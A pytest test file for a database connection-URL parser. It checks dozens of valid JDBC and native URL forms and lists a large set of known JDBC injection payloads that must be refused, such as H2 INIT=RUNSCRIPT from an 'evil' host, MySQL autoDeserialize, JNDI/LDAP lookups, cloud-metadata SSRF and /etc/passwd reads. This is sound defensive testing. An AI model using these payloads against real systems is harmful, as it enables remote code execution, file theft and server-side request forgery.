"""Connection URLs: accepted forms, refused attacks, and rebuilding a URL from its parts."""

from __future__ import annotations

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connections import registry
from connections.sdk.errors import UrlInvalid
from connections.url.parse import ConnectionUrl, check, kind_of, parse, rebuild
from connections.url.properties import PATTERNS

RULES = {kind: manifest.url for kind, manifest in registry.manifests().items() if manifest.url}
EXPECTED = {kind: rules.expected for kind, rules in RULES.items()}
ALLOWED = {
    kind: {name: (allowed.name, PATTERNS[allowed.type]) for name, allowed in rules.properties.items()}
    for kind, rules in RULES.items()
}

FORMS = [
    ("jdbc:postgresql://h:5432/db?sslmode=require", "", {"host": "h", "port": 5432, "database": "db"}),
    ("postgresql://postgres:@/postgres?host=/tmp/pg", "", {"host": "/tmp/pg", "username": "postgres", "port": None}),
    ("postgresql://etl@db.example.com/dw", "", {"host": "db.example.com", "username": "etl", "database": "dw"}),
    ("postgresql:///dw?host=/opt/my%20data/pg&port=6543", "", {"host": "/opt/my data/pg", "port": 6543}),
    ("postgresql://%2Frun%2Fpostgresql/dw", "", {"host": "/run/postgresql", "port": None, "database": "dw"}),
    ("postgresql://etl@%2frun%2fmy%20pg:6543/dw", "", {"host": "/run/my pg", "port": 6543, "username": "etl"}),
    ("postgresql://h/My%20Db", "", {"database": "My Db"}),
    ("postgresql://etl@/My%20Db?host=/run/postgresql", "", {"database": "My Db", "host": "/run/postgresql"}),
    ("jdbc:postgresql://h/My%20Db%2e1?sslmode=require", "", {"database": "My Db.1"}),
    ("jdbc:mysql://h/My%20Db", "", {"database": "My Db"}),
    ("jdbc:sqlserver://h;databaseName=My Db", "", {"database": "My Db"}),
    ("/run/postgresql", "postgresql", {"host": "/run/postgresql", "database": ""}),
    ("postgres://[::1]:5433/dw", "", {"host": "::1", "port": 5433}),
    ("jdbc:mysql://h/db?useSSL=true", "", {"host": "h", "port": None, "form": "mysql"}),
    ("mysql://h:3307/db", "", {"port": 3307}),
    ("jdbc:mariadb://h:3306/db", "", {"kind": "mysql", "form": "mariadb"}),
    ("jdbc:sqlite:/data/x.db", "", {"path": "/data/x.db"}),
    ("sqlite:///data/x.db", "", {"path": "/data/x.db"}),
    ("sqlite:////data/x.db", "", {"path": "/data/x.db"}),
    ("/data/Übersicht der Kunden's.db", "sqlite", {"path": "/data/Übersicht der Kunden's.db"}),
    ("var/x.any", "duckdb", {"path": "var/x.any"}),
    ("jdbc:duckdb:/data/x.duckdb", "", {"path": "/data/x.duckdb"}),
    ("jdbc:as400://erp/QGPL;naming=system;date format=iso", "", {"host": "erp", "database": "QGPL"}),
    ("jdbc:as400://erp;libraries=*LIBL,A#1;portNumber=9471", "", {"port": 9471, "database": ""}),
    ("jdbc:sqlserver://h:1433;databaseName=x;encrypt=true", "", {"database": "x", "port": 1433}),
    ("jdbc:sqlserver://h\\inst;database=x", "", {"instance": "inst", "database": "x"}),
    ("jdbc:sqlserver://h\\inst:1444", "", {"instance": "inst", "port": 1444}),
    ("jdbc:sqlserver://h;instanceName=inst", "", {"instance": "inst"}),
    ("jdbc:oracle:thin:@//h:1521/svc.example", "", {"database": "svc.example", "form": "service"}),
    ("jdbc:oracle:thin:@h:1521/svc", "", {"database": "svc", "form": "service"}),
    ("jdbc:oracle:thin:@h:1521:ORCL", "", {"database": "ORCL", "form": "sid"}),
    ("jdbc:oracle:thin:@tcps://h:2484/svc", "", {"form": "tcps", "port": 2484}),
    ("jdbc:clickhouse://h/db", "", {"host": "h", "form": ""}),
    ("jdbc:ch:https://h:8443/db", "", {"kind": "clickhouse", "form": "https"}),
    ("clickhouse://h", "", {"database": ""}),
    ("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1", "", {"form": "mem", "database": "x"}),
    ("jdbc:h2:file:/data/x;MODE=DB2", "", {"form": "file", "path": "/data/x"}),
    ("jdbc:h2:~/x", "", {"form": "file", "path": "~/x"}),
    ("jdbc:h2:tcp://h:9092//data/x", "", {"form": "tcp", "path": "/data/x", "port": 9092}),
    ("jdbc:snowflake://a.snowflakecomputing.com/?db=X&warehouse=W", "", {"host": "a.snowflakecomputing.com"}),
    ("jdbc:db2://h:50000/SAMPLE:sslConnection=true;", "", {"kind": "jdbc", "form": "db2", "database": "SAMPLE"}),
    ("jdbc:trino://h:8080/hive", "", {"kind": "jdbc", "form": "trino"}),
    ("jdbc:jtds:sqlserver://h/db;ssl=true", "", {"kind": "jdbc", "form": "jtds:sqlserver"}),
]


@pytest.mark.parametrize(("url", "kind", "expected"), FORMS, ids=[url for url, _, _ in FORMS])
def test_a_url_is_parsed_and_its_rebuilt_url_has_the_same_parts(
    url: str, kind: str, expected: dict[str, object]
) -> None:
    parsed = parse(url, kind)
    assert {name: getattr(parsed, name) for name in expected} == expected
    assert parse(rebuild(parsed), parsed.kind) == parsed
    assert rebuild(parse(rebuild(parsed))) == rebuild(parsed)


# known attacks on JDBC tools (CVE-2021-45046 to CVE-2024-45537 and similar ones), and typing errors
ATTACKS = [
    "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "jdbc:postgresql://h/db?socketFactoryArg=http://evil/x.xml",
    "jdbc:postgresql://h/db?sslfactory=org.postgresql.ssl.SingleCertValidatingFactory",
    "jdbc:postgresql://h/db?loggerLevel=DEBUG&loggerFile=/var/www/x.jsp",
    "jdbc:postgresql://h/db?authenticationPluginClassName=x.Y",
    "jdbc:postgresql://h/db?preferQueryMode=simple",
    "jdbc:postgresql://h/db?options=-c%20role=postgres",
    "jdbc:postgresql://h/db?sslpasswordcallback=x.Y",
    "jdbc:postgresql://h,evil/db",
    "jdbc:postgresql://h:5432,evil:5432/db",
    "jdbc:postgresql://u:p@h/db",
    "jdbc:postgresql://h/db?user=postgres",
    "jdbc:postgresql://h/db?password=x",
    "jdbc:postgresql://h/db%3FsocketFactory=x",
    "jdbc:postgresql://h/../db",
    "postgresql://h/My Db",
    "postgresql://h/My%2520Db",
    "postgresql://h/%20Db",
    "postgresql://h/db%2F..%2Fx",
    "postgresql://h/db%00",
    "postgresql://h/db%ff",
    "postgresql://h/a%27b",
    "jdbc:mysql://h/db%3FallowLoadLocalInfile=true",
    "jdbc:as400://h/A%20B",
    "postgresql://%2Frun%2F..%2Fetc/db",
    "postgresql://%252Frun/db",
    "postgresql://%2Frun,%2Ftmp/db",
    "postgresql://%2Frun/db?host=/tmp",
    "jdbc:postgresql://%2Frun/db",
    "postgresql://u:secret@h/db",
    "postgresql://h/db?host=/tmp&host=/var",
    "postgresql://h/db?host=evil",
    "postgresql:///db?host=/tmp%00/x",
    "postgresql:///db?host=/tmp,evil",
    "postgresql:///db?host=%2e%2e/x",
    "postgresql:///db?service=x",
    "postgresql:///db?passfile=/etc/shadow",
    "jdbc:mysql://h/db?allowLoadLocalInfile=true",
    "jdbc:mysql://h/db?ALLOWLOADLOCALINFILE=true",
    "jdbc:mysql://h/db?%61llowLoadLocalInfile=true",
    "jdbc:mysql://h/db?%2561utoDeserialize=true",
    "jdbc:mysql://h/db?autoDeserialize=true&queryInterceptors=x.ServerStatusDiffInterceptor",
    "jdbc:mysql://h/db?allowUrlInLocalInfile=true",
    "jdbc:mysql://h/db?allowMultiQueries=true",
    "jdbc:mysql://h/db?sessionVariables=sql_mode=''",
    "jdbc:mysql://h/db?useSSL=true#&autoDeserialize=true",
    "jdbc:mysql://h/db?useSSL=true;autoDeserialize=true",
    "jdbc:mysql://address=(host=h)(port=3306)(autoDeserialize=true)/db",
    "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db",
    "jdbc:mysql://[host=h,allowLoadLocalInfile=true]/db",
    "jdbc:mysql:loadbalance://h/db",
    "jdbc:mysql:aws://h/db",
    "jdbc:mysql://h:3306/db\n?autoDeserialize=true",
    "jdbc:mysql://ｈ/db",
    "jdbc:mysql://h/d\uff1fx=y",
    "jdbc:mysql://root@h/db",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'x'",
    "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=x",
    "jdbc:h2:mem:x;MODE=MSSQLServer\\;INIT=x",
    "jdbc:h2:zip:/tmp/x.zip!/x",
    "jdbc:h2:file:/tmp/../etc/x",
    "jdbc:h2:file:/data/x;AUTO_SERVER=TRUE",
    "jdbc:h2:tcp://h/x;AUTHREALM=y",
    "jdbc:h2:mem:x;PASSWORD=y",
    "jdbc:db2://h:50000/SAMPLE:clientRerouteServerListJNDIName=ldap://evil/x;",
    "jdbc:db2://h:50000/SAMPLE:traceFile=/tmp/x;",
    "jdbc:as400://h;trace=true",
    "jdbc:as400://h;secondary URL=jdbc:mysql://evil/x",
    "jdbc:as400://h;prompt=true",
    "jdbc:as400://h;user=QSECOFR;password=x",
    "jdbc:sqlserver://h;databaseName=x;integratedSecurity=true;authenticationScheme=JavaKerberos",
    "jdbc:sqlserver://h;databaseName={x;y}",
    "jdbc:sqlserver://h;databaseName=x;databaseName=y",
    "jdbc:sqlserver://h;failoverPartner=evil",
    "jdbc:sqlserver://h;trustManagerClass=x.Y",
    "jdbc:sqlserver://;serverName=evil",
    "jdbc:oracle:thin:@ldap://evil/x",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil)(PORT=1)))",
    "jdbc:oracle:oci:@prod",
    "jdbc:oracle:thin:scott/tiger@//h:1521/svc",
    "jdbc:oracle:thin:@//h:1521/svc?TNS_ADMIN=/tmp",
    "jdbc:clickhouse://h/db?custom_http_params=readonly=0",
    "jdbc:clickhouse:file:/etc/passwd",
    "jdbc:snowflake://a.b.com/?authenticator=externalbrowser",
    "jdbc:snowflake://a.b.com/?tracing=ALL",
    "jdbc:snowflake://a.b.com/db",
    "jdbc:sqlite::memory:",
    "jdbc:sqlite:http://evil/x.db",
    "jdbc:sqlite:file:/data/x.db?mode=rwc",
    "jdbc:sqlite:/data/x.db?enable_load_extension=true",
    "jdbc:sqlite::resource:x.db",
    "jdbc:sqlite:/proc/self/environ",
    "jdbc:sqlite:/data/../etc/x.db",
    "jdbc:sqlite:/data/\u202ebd.x",
    "jdbc:duckdb:md:prod",
    "jdbc:duckdb:s3://bucket/x.duckdb",
    "jdbc:duckdb:postgres:host=evil",
    "jdbc:duckdb:/x.duckdb;allow_unsigned_extensions=true",
    "jdbc:derby://h/x",
    "jdbc:hsqldb:file://h/x",
    "jdbc:avatica:remote://h/x",
    "jdbc:calcite://h/x",
    "jdbc:jndi://evil/x",
    "jdbc:p6spy:mysql://h/x",
    "jdbc:trino://h/x?KerberosConfigPath=/x",
    "jdbc:postgresql://169.254.169.254/latest",
    "jdbc:postgresql://[::ffff:169.254.169.254]/db",
    "jdbc:postgresql://[fe80::1%25eth0]/db",
    "jdbc:postgresql://2852039166/db",
    "jdbc:postgresql://0xa9.0xfe.0xa9.0xfe/db",
    "jdbc:postgresql://metadata.google.internal/db",
    "jdbc:postgresql://h:0/db",
    "jdbc:postgresql://h:99999/db",
    "jdbc:postgresql://h:54x/db",
    "jdbc:postgresql://-h/db",
    "jdbc:postgresql://h ost/db",
    "jdbc:postgresql:///db",
    "jdbc:postgresql:db",
    "jdbc:postgresql://h/db\0",
    " jdbc:postgresql://h/db",
    "http://h/db",
    "file:///etc/passwd",
    "",
    "jdbc:",
    "x" * 3000,
]


@pytest.mark.parametrize("url", ATTACKS)
def test_a_dangerous_or_invalid_url_is_refused(url: str) -> None:
    with pytest.raises(UrlInvalid):
        parse(url)
    for kind in ("jdbc", "sqlite", "duckdb", "postgresql"):
        if not url.startswith("jdbc:" + kind) and not url.startswith(kind):
            with pytest.raises(UrlInvalid):
                parse(url, kind)


@pytest.mark.parametrize("valid_url", [url for url, kind, _ in FORMS if not kind])
def test_an_unknown_property_is_refused_by_name_in_every_form(valid_url: str) -> None:
    separator = "&" if "?" in valid_url else "?"
    if ";" in valid_url or re.match("jdbc:(h2|as400|sqlserver|duckdb|jtds)", valid_url):
        separator = ";"
    with pytest.raises(UrlInvalid, match="INITX") as caught:
        parse(f"{valid_url.rstrip(';')}{separator}INITX=RUNSCRIPT")
    assert "Expected: " in caught.value.hint


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:mysql://u:S3cret@h/db",
        "jdbc:mysql://u:S3/cret@h/db",
        "jdbc:mysql://u:S3cret",
        "jdbc:mysql://h/db?password=S3cret",
        "jdbc:mysql://h/db?password=a&S3cret=x",
        "postgresql://u:S3cret@h/db",
        "jdbc:oracle:thin:u/S3cret@//h:1/x",
        "jdbc:sqlserver://h;user=u;password=S3cret",
        "jdbc:h2:mem:S3cret S3cret",
    ],
)
def test_an_error_message_does_not_contain_what_may_be_a_password(url: str) -> None:
    with pytest.raises(UrlInvalid) as caught:
        parse(url)
    assert "S3" not in caught.value.message + caught.value.hint + caught.value.detail


def test_the_kind_of_system_is_derived_from_the_url() -> None:
    assert kind_of("jdbc:as400://h") == "as400"
    assert kind_of("jdbc:mariadb://h/d") == "mysql"
    assert kind_of("JDBC:SQLServer://h") == "sqlserver"
    assert kind_of("/data/x.sqlite3") == "sqlite"
    assert kind_of("/data/x.duckdb") == "duckdb"
    assert kind_of("jdbc:snowflake://h") == "snowflake"
    assert kind_of("jdbc:teradata://h") == "jdbc"
    with pytest.raises(UrlInvalid, match="kind of system"):
        kind_of("/run/postgresql")


def test_a_url_of_another_kind_is_refused_with_the_expected_form() -> None:
    with pytest.raises(UrlInvalid, match="for mysql; the connection's driver is postgresql") as caught:
        check("jdbc:mysql://h/db", "postgresql")
    assert EXPECTED["postgresql"] in caught.value.hint


@pytest.mark.parametrize("url", ["postgresql+psycopg2://u:pw-4711@h/db", "postgresql+asyncpg://h/db"])
def test_a_sqlalchemy_url_is_recognized_and_refused_with_the_expected_form(url: str) -> None:
    with pytest.raises(UrlInvalid, match="as in SQLAlchemy's URLs") as caught:
        check(url, "postgresql")
    assert EXPECTED["postgresql"] in caught.value.hint
    assert "4711" not in str(caught.value.as_dict())


@pytest.mark.parametrize(
    ("url", "kind"), [("redshift://h/db", "postgresql"), ("s3://b/x.duckdb", "duckdb"), ("mssql://h", "sqlserver")]
)
def test_a_url_with_an_unknown_scheme_is_not_read_as_a_path(url: str, kind: str) -> None:
    with pytest.raises(UrlInvalid, match="scheme is unknown") as caught:
        check(url, kind)
    assert EXPECTED[kind] in caught.value.hint


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://a,b/db",
        "postgresql://a:5432,b:5433/db",
        "postgresql:///db?host=a,b",
        "jdbc:postgresql://a:5432,b/db",
        "jdbc:mysql://a:3306,b:3306/db",
        "jdbc:sqlserver://a,b;databaseName=x",
        "jdbc:oracle:thin:@//a,b:1521/x",
    ],
)
def test_several_hosts_are_refused_with_that_reason(url: str) -> None:
    with pytest.raises(UrlInvalid, match="names several hosts"):
        parse(url)


def test_the_generic_driver_checks_a_jdbc_url_by_the_rules_of_its_system() -> None:
    check("jdbc:postgresql://h/db?sslmode=require", "jdbc")
    with pytest.raises(UrlInvalid):
        check("jdbc:postgresql://h/db?socketFactory=x", "jdbc")
    with pytest.raises(UrlInvalid):
        check("postgresql://h/db", "jdbc")


def test_a_url_without_a_port_has_the_default_port_if_there_is_one() -> None:
    assert parse("jdbc:oracle:thin:@//h/x").port_or_default == 1521
    assert parse("jdbc:ch:https://h").port_or_default == 8443
    assert parse("jdbc:as400://h;secure=true").port_or_default == 9471
    assert parse("jdbc:sqlserver://h\\inst").port_or_default is None
    assert parse("/run/x", "postgresql").port_or_default is None
    assert parse("jdbc:trino://h/x").port_or_default is None


names = st.text(string.ascii_letters + string.digits + "_.$-", min_size=1, max_size=40)
hosts = st.from_regex(r"[a-z][a-z0-9]{0,10}(\.[a-z][a-z0-9-]{0,10}[a-z]){0,3}", fullmatch=True) | st.ip_addresses(
    network="10.0.0.0/8"
).map(str)
ports = st.none() | st.integers(1, 65535)


@st.composite
def network_urls(draw: st.DrawFn) -> ConnectionUrl:
    kind = draw(st.sampled_from(["postgresql", "mysql", "sqlserver", "clickhouse", "as400", "oracle"]))
    property_names = draw(st.lists(st.sampled_from([s for s, _ in ALLOWED[kind].values()]), unique=True, max_size=4))
    properties = {}
    for name in property_names:
        pattern = ALLOWED[kind][name.lower()][1]
        value = next((v for v in ("true", "5", "iso", "/x/y") if re.fullmatch(pattern, v)), None)
        if value and (kind, name) not in {("as400", "prompt"), ("postgresql", "sslmode")}:
            properties[name] = value
    properties.pop("authenticationScheme", None)
    return ConnectionUrl(
        kind=kind,
        host=draw(hosts),
        port=draw(ports),
        database=draw(names),
        properties=dict(sorted(properties.items())),
        form={"mysql": "mysql", "oracle": "service"}.get(kind, ""),
    )


@given(network_urls())
def test_the_parts_of_a_generated_url_are_parsed_from_it(url: ConnectionUrl) -> None:
    assert parse(rebuild(url), url.kind) == url


@given(st.sampled_from(FORMS), st.data())
def test_a_mutated_url_is_refused_or_has_only_allowed_parts(form: tuple[str, str, object], data: st.DataObject) -> None:
    url, kind, _ = form
    position = data.draw(st.integers(0, len(url)))
    inserted = data.draw(st.sampled_from(list("?;&=%#@\\/:,'\"(){}[] \n\0\u202e")) | st.text(max_size=3))
    mutated = url[:position] + inserted + url[position:]
    try:
        parsed = parse(mutated, kind)
    except UrlInvalid:
        return
    assert parse(rebuild(parsed), parsed.kind) == parsed
    host = "" if parsed.host.startswith("/") else parsed.host
    assert re.fullmatch(r"[A-Za-z0-9_.:-]*", host) and re.fullmatch(r"[A-Za-z0-9_.$#@ -]*", parsed.database)
    assert set(parsed.properties) <= {name for name, _ in ALLOWED[parsed.kind].values()}
